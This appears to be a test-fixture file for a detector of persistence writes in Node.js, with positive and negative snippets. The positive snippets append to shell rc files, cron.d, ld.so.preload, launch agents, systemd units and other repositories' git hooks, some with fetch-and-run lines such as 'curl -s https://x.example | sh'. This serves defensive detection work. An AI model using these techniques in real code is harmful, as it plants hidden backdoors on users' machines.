//@ pos append to bashrc
const fs = require('fs');
const os = require('os');
fs.appendFileSync(os.homedir() + '/.bashrc', 'curl x | sh\n');
//@ pos write stream on zshrc
const fs = require('fs');
const path = require('path');
const os = require('os');
fs.createWriteStream(path.join(os.homedir(), '.zshrc'), { flags: 'a' });
//@ pos promises writeFile on a cron.d file
const { writeFile } = require('fs/promises');
writeFile('/etc/cron.d/job', '* * * * * root sh /tmp/x\n');
//@ pos a link to profile under a local name
const fs = require('fs');
const os = require('os');
fs.symlinkSync(`${os.homedir()}/.profile`, './settings');
fs.appendFileSync('./settings', 'x\n');
//@ pos replaced by a copy
const fs = require('fs');
const os = require('os');
fs.copyFileSync('/tmp/rc', os.homedir() + '/.bash_profile');
//@ pos renamed onto a user autostart entry
const fs = require('fs');
fs.renameSync('/tmp/x.desktop', `${process.env.HOME}/.config/autostart/x.desktop`);
//@ neg read the bashrc
const fs = require('fs');
const os = require('os');
const text = fs.readFileSync(os.homedir() + '/.bashrc', 'utf8');
console.log(text.includes('nvm'));
//@ neg back up the bashrc (copied from, not onto)
const fs = require('fs');
const os = require('os');
fs.copyFileSync(os.homedir() + '/.bashrc', './backup/bashrc');
//@ neg write a project file named like one
const fs = require('fs');
fs.writeFileSync('./profile', 'x');
fs.appendFileSync('config/.bashrc.example', 'export A=1\n');
//@ pos bash_aliases through path.format
const fsp = require('fs/promises');
const os = require('os');
const path = require('path');
fsp.appendFile(path.format({ dir: os.homedir(), base: '.bash_aliases' }), "alias ls='sh /tmp/x'\n");
//@ pos a library registered in ld.so.preload
const fs = require('fs');
fs.appendFileSync('/etc/ld.so.preload', '/usr/local/lib/libx.so\n');
//@ pos a directory copied onto the home
const fs = require('fs');
const os = require('os');
fs.cpSync('/tmp/bundle', os.homedir(), { recursive: true, force: true });
//@ neg a directory copied into a project under the home
const fs = require('fs');
const os = require('os');
const path = require('path');
fs.cpSync('./template', path.join(os.homedir(), 'projects', 'demo'), { recursive: true });
//@ pos a start-up file looked up in a table by a key the analysis cannot know
const fs = require('fs'), os = require('os'), path = require('path');
const SHELLS = { bash: { rc: '.bashrc' }, zsh: { rc: '.zshrc' } };
fs.createWriteStream(path.join(os.homedir(), SHELLS[process.argv[2]].rc), { flags: 'a' }).end('x\n');
//@ neg a table of the program's own config files by a key it is given
const fs = require('fs'), os = require('os'), path = require('path');
const FILES = { app: 'config.json', cache: 'cache.json' };
fs.writeFileSync(path.join(os.homedir(), '.myapp', FILES[process.argv[2]]), '{}');
//@ pos a start-up file opened for appending and written by its descriptor
const fs = require('fs');
const fd = fs.openSync(require('os').homedir() + '/.bashrc', 'a');
fs.writeSync(fd, 'x\n');
//@ neg a start-up file opened for reading
const fs = require('fs');
const fd = fs.openSync(require('os').homedir() + '/.bashrc', 'r');
//@ neg the program's own log opened for appending
const fs = require('fs');
const fd = fs.openSync('build.log', 'a');
//@ pos a start-up file pushed into a list and taken by its index
const t26 = [];
t26.push(require('path').join(require('os').homedir(), '.bashrc'));
require('fs').appendFileSync(t26[0], 'curl x | sh');
//@ neg the program's own log file pushed into a list and appended to by its index
const t27 = [];
t27.push(require('path').join(__dirname, 'logs', 'app.log'));
require('fs').appendFileSync(t27[0], 'started\n');
//@ pos ~/.gitconfig appended to (core.pager runs at every git log)
const fs = require('fs'), os = require('os'), path = require('path');
fs.appendFileSync(path.join(os.homedir(), '.gitconfig'), '[core]\n\tpager = sh -c id\n');
//@ pos Python's usercustomize.py in the user site-packages
const fs = require('fs'), os = require('os');
fs.writeFileSync(`${os.homedir()}/.local/lib/python3.11/site-packages/usercustomize.py`, 'import os\n');
//@ pos a start-up file named '.' + shell + 'rc' in a loop
const fs = require('fs'), os = require('os'), path = require('path');
for (const s of ['bash', 'zsh']) fs.appendFileSync(path.join(os.homedir(), '.' + s + 'rc'), 'x\n');
//@ pos tar unpacking into the home directory
require('child_process').execFileSync('tar', ['-xzf', 'a.tgz', '-C', require('os').homedir()]);
//@ neg tar unpacking into the program's own directory
require('child_process').execFileSync('tar', ['-xzf', 'a.tgz', '-C', 'vendor']);
//@ pos run-shell appended to ~/.tmux.conf
require('fs').appendFileSync(require('path').join(require('os').homedir(), '.tmux.conf'), 'run-shell "sh x"\n');
//@ pos a script written into IPython's startup directory
require('fs').writeFileSync(`${require('os').homedir()}/.ipython/profile_default/startup/00-x.py`, 'import os\n');
//@ pos a fake sudo in ~/.local/bin
require('fs').writeFileSync(`${require('os').homedir()}/.local/bin/sudo`, '#!/bin/sh\n');
//@ neg a tmux configuration in the project
require('fs').writeFileSync('tmux.conf', 'set -g mouse on\n');
//@ pos a start-up file under the home destructured from os.userInfo()
const fs = require('fs');
const path = require('path');
const { homedir } = require('os').userInfo();
fs.appendFileSync(path.join(homedir, '.bashrc'), 'curl -s https://x.example | sh\n');
//@ pos a user systemd unit under HOME destructured from the environment
const fs = require('fs');
const path = require('path');
const { HOME: base } = process.env;
fs.writeFileSync(path.join(base, '.config/systemd/user/x.service'), '[Service]\n');
//@ neg a project file under a directory destructured from the environment
const fs = require('fs');
const path = require('path');
const { PWD: here } = process.env;
fs.writeFileSync(path.join(here, '.bashrc'), 'export A=1\n');
//@ neg a config of the program under the home destructured from os.userInfo()
const fs = require('fs');
const path = require('path');
const { homedir } = require('os').userInfo();
fs.writeFileSync(path.join(homedir, '.config', 'mytool', 'settings.json'), '{}');
//@ pos a hook written into another repository's .git/hooks under the home
const fs = require('fs');
const os = require('os');
fs.writeFileSync(os.homedir() + '/src/api/.git/hooks/post-checkout', '#!/bin/sh\ncurl x | sh\n');
//@ neg a hook written into the current repository's own .git/hooks
const fs = require('fs');
fs.writeFileSync('.git/hooks/pre-commit', '#!/bin/sh\nnpm test\n');
//@ pos Emacs' init file
require('fs').appendFileSync(require('path').join(require('os').homedir(), '.emacs.d', 'init.el'), '(shell-command "id")\n');
//@ pos cargo's runner
require('fs').writeFileSync(require('os').homedir() + '/.cargo/config.toml', '[target.x]\nrunner = "sh -c id"\n');
//@ pos the user's .yarnrc.yml (yarnPath runs in place of yarn)
require('fs').appendFileSync(require('os').homedir() + '/.yarnrc.yml', 'yarnPath: /tmp/y.cjs\n');
//@ pos Yarn 1's ~/.yarnrc (yarn-path)
require('fs').writeFileSync(`${process.env.HOME}/.yarnrc`, 'yarn-path "/tmp/y.js"\n');
//@ neg a project's .yarnrc.yml
require('fs').writeFileSync(require('path').join(process.cwd(), '.yarnrc.yml'), 'nodeLinker: node-modules\n');
//@ pos a hook written into each repository a directory listing finds
const base = require('path').join(require('os').homedir(), 'src');
for (const r of require('fs').readdirSync(base)) require('fs').writeFileSync(require('path').join(base, r, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\nid\n');
//@ neg the project's own hooks copied from a listing
for (const h of require('fs').readdirSync('scripts/hooks')) require('fs').copyFileSync(require('path').join('scripts/hooks', h), require('path').join('.git', 'hooks', h));
//@ pos a file in fish's conf.d
const path = require('path');
require('fs').writeFileSync(path.join(require('os').homedir(), '.config/fish/conf.d/x.fish'), 'curl -s https://e.example/x | sh\n');
//@ neg a fish completion written into the project
require('fs').writeFileSync(require('path').join(__dirname, 'completions', 'tool.fish'), 'complete -c tool\n');
//@ pos a script written into Gradle's init.d
const fs = require('fs');
const path = require('path');
fs.writeFileSync(path.join(require('os').homedir(), '.gradle', 'init.d', 'x.gradle'), 'x');
//@ pos appended to ~/.gradle/init.gradle.kts
require('fs').appendFileSync(`${process.env.HOME}/.gradle/init.gradle.kts`, 'x');
//@ neg the project's gradle.properties written
require('fs').writeFileSync('gradle.properties', 'org.gradle.caching=true\n');
//@ pos a launch agent written under the home's Library
const fs = require('fs');
const os = require('os');
fs.writeFileSync(os.homedir() + '/Library/LaunchAgents/com.x.plist', '<plist/>');
//@ pos a launch daemon copied into /Library
const fs = require('fs');
fs.copyFileSync('./d.plist', '/Library/LaunchDaemons/com.x.plist');
//@ neg an app bundle's Info.plist
const fs = require('fs');
fs.writeFileSync('./build/App.app/Contents/Info.plist', '<plist/>');
//@ pos appended to the user's bash completion file
const fs = require('fs');
const os = require('os');
fs.appendFileSync(os.homedir() + '/.bash_completion', 'curl x | sh\n');
//@ pos a completion script in bash-completion's user folder
const fs = require('fs');
const os = require('os');
fs.writeFileSync(`${os.homedir()}/.local/share/bash-completion/completions/git`, 'curl x | sh\n');
//@ pos Julia's start-up file written
const fs = require('fs');
const path = require('path');
const os = require('os');
fs.writeFileSync(path.join(os.homedir(), '.julia', 'config', 'startup.jl'), 'run(`sh`)\n');
//@ pos GHCi's start-up file appended to
const fs = require('fs');
const os = require('os');
fs.appendFileSync(`${os.homedir()}/.ghci`, ':! sh\n');
//@ neg a completion script written in the project
const fs = require('fs');
fs.writeFileSync('./dist/completion.bash', 'complete -W "a b" tool\n');
//@ neg Julia's start-up file read
const fs = require('fs');
const os = require('os');
console.log(fs.readFileSync(os.homedir() + '/.julia/config/startup.jl', 'utf8').length);
//@ pos a desktop entry written into the user's applications
const fs = require('fs');
const os = require('os');
fs.writeFileSync(`${os.homedir()}/.local/share/applications/v.desktop`, '[Desktop Entry]\nExec=sh\n');
//@ pos the default handlers appended to
const fs = require('fs');
const path = require('path');
const os = require('os');
fs.appendFileSync(path.join(os.homedir(), '.config', 'mimeapps.list'), 'text/html=v.desktop\n');
//@ neg a desktop entry written into the build directory
const fs = require('fs');
fs.writeFileSync('./build/linux/app.desktop', '[Desktop Entry]\nExec=app\n');
//@ pos kitty's shell setting appended to its config
const fs = require('fs');
const os = require('os');
fs.appendFileSync(os.homedir() + '/.config/kitty/kitty.conf', "shell sh -c 'curl x | sh'\n");
//@ pos alacritty's config written with a shell program
const fs = require('fs');
const path = require('path');
fs.writeFileSync(path.join(require('os').homedir(), '.config', 'alacritty', 'alacritty.toml'), '[terminal.shell]\nprogram = "sh"\n');
//@ neg a kitty theme written into the project
const fs = require('fs');
fs.writeFileSync('themes/kitty.conf', 'background #000000\n');
//@ pos npm's init-module in the home
const fs = require('fs');
const os = require('os');
fs.writeFileSync(os.homedir() + '/.npm-init.js', 'module.exports = {};\n');
//@ pos a package in node's global folder under the home
const fs = require('fs');
const os = require('os');
const path = require('path');
fs.writeFileSync(path.join(os.homedir(), '.node_modules', 'lodash', 'index.js'), 'x');
//@ neg a package in the project's node_modules
const fs = require('fs');
const path = require('path');
fs.writeFileSync(path.join(__dirname, 'node_modules', 'local', 'index.js'), 'x');
//@ pos tar -P keeps absolute member names
const { execFileSync } = require('child_process');
execFileSync('tar', ['-x', '-P', '-f', '/tmp/a.tar']);
//@ pos unzip -: keeps the members' ../
const { execFileSync } = require('child_process');
execFileSync('unzip', ['-:', 'a.zip', '-d', 'out']);
//@ neg unzip -P with a password
const { execFileSync } = require('child_process');
execFileSync('unzip', ['-P', 'secret', 'a.zip', '-d', 'out']);
//@ pos tar --absolute-names, the arguments in a name
const { execFileSync } = require('child_process');
const args = ['-x', '--absolute-names', '-f', '/tmp/a.tar'];
execFileSync('tar', args);
//@ pos nushell's config.nu
require("fs").appendFileSync(require("os").homedir() + "/.config/nushell/config.nu", "^sh -c 'id'\n");
//@ pos xonsh's rc file
require("fs").writeFileSync(`${require("os").homedir()}/.xonshrc`, "import os\n");
//@ pos PowerShell's profile
require("fs").writeFileSync(require("path").join(require("os").homedir(), ".config", "powershell", "Microsoft.PowerShell_profile.ps1"), "iex 'x'\n");
//@ neg a project's build.ps1 and completions.nu
require("fs").writeFileSync("scripts/build.ps1", "npm ci\n");
require("fs").writeFileSync("dist/completions.nu", "export extern x []\n");
//@ pos bun's global config written in the home directory
const fs = require('fs');
const os = require('os');
fs.writeFileSync(os.homedir() + '/.bunfig.toml', 'preload = ["/tmp/p.js"]\n');
//@ pos bun's config under ~/.config appended through a stream
const fs = require('fs');
fs.createWriteStream(require('os').homedir() + '/.config/.bunfig.toml', { flags: 'a' }).end('x');
//@ neg the project's bunfig.toml
const fs = require('fs');
fs.writeFileSync('bunfig.toml', '[test]\npreload = ["./test/setup.ts"]\n');
//@ pos bspwm's start-up script appended
const fs = require('fs');
fs.appendFileSync(require('os').homedir() + '/.config/bspwm/bspwmrc', 'sh /tmp/x &\n');
//@ pos awesome's rc.lua written by fs/promises
const { writeFile } = require('fs/promises');
writeFile(`${require('os').homedir()}/.config/awesome/rc.lua`, 'x');
//@ pos a VS Code extension written into the account's extensions
const fs = require('fs');
const path = require('path');
fs.writeFileSync(path.join(require('os').homedir(), '.vscode', 'extensions', 'a.b-1.0.0', 'extension.js'), 'x');
//@ pos a Cursor extension copied into place
const fs = require('fs');
fs.cpSync('/tmp/ext', `${process.env.HOME}/.cursor/extensions/a.b-1.0.0`, { recursive: true });
//@ neg the workspace's extension recommendations
const fs = require('fs');
fs.writeFileSync('.vscode/extensions.json', '{"recommendations":[]}');
//@ neg awesome's config read
const fs = require('fs');
console.log(fs.readFileSync(require('os').homedir() + '/.config/awesome/rc.lua', 'utf8').length);
//@ pos a snippet written into ~/.bashrc.d
const fs = require("fs");
const os = require("os");
const path = require("path");
fs.writeFileSync(path.join(os.homedir(), ".bashrc.d", "50-tool.sh"), "curl -fsSL https://x.example/a | sh\n");
//@ pos a unit linked into default.target.wants under ~/.local/share/systemd/user
const fs = require("fs");
const os = require("os");
const path = require("path");
const base = path.join(os.homedir(), ".local/share/systemd/user");
fs.symlinkSync(path.join(base, "w.service"), path.join(base, "default.target.wants", "w.service"));
//@ neg the snippets of ~/.bashrc.d listed and read
const fs = require("fs");
const os = require("os");
const path = require("path");
const dir = path.join(os.homedir(), ".bashrc.d");
for (const f of fs.readdirSync(dir)) console.log(fs.readFileSync(path.join(dir, f), "utf8"));
